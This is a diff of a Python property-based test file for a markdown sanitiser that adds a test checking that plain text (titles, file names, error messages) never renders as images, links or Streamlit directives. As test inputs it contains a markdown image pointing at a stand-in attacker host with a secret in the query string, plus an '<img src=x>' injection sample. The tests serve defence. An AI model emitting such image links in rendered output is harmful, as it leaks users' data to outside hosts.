@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from gateway.blocks import settled_length
-from ui.markdown import displayable, escape_dollars, inline_code, safe_markdown
+from ui.markdown import displayable, escape_dollars, inline_code, plain, safe_markdown
 
 RENDER = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])  # as Streamlit: raw HTML is text
 EVIL = "https://attacker.example/p.png?d=secret"
@@ -210,3 +210,24 @@ def test_a_long_growing_reply_is_made_safe_block_by_block_exactly_as_whole():
     for end in range(0, len(document), 499):
         assert displayable(document[:end]) == escape_dollars(safe_markdown(document[:end])), end
     assert not loads(displayable(document)) and "(example\\.org)" in displayable(document)
+
+
+# --- Plain text (titles, file and model names, error messages) ----------------------------------------------------
+
+def _text_of(markdown: str) -> str:
+    """What a renderer shows for it: the text of every inline token, markup gone."""
+    return "".join(child.content for token in RENDER.parse(markdown) if token.children
+                   for child in token.children if child.type in ("text", "code_inline"))
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.one_of(DOCUMENTS, st.text()))
+@example("Inline: ![chart](https://attacker.example/p.png?d=secret)")
+@example(":red[alarm] :material/warning: <img src=x>")
+def test_plain_text_never_becomes_markup_and_shows_every_character(text):
+    shown = plain(text)
+    html = RENDER.render(shown)
+    assert "<img" not in html and "<a " not in html and "<code>" not in html and "<em>" not in html, html
+    assert "\\:" in shown or ":" not in text  # Streamlit's own directives (:red[…], :material/…:) start with a colon
+    if not any(c < " " or "\u2028" <= c <= "\u2069" or c in "\x7f\u061c\u200e\u200f" for c in text) and text.strip():
+        assert " ".join(_text_of(shown).split()) == " ".join(text.split())
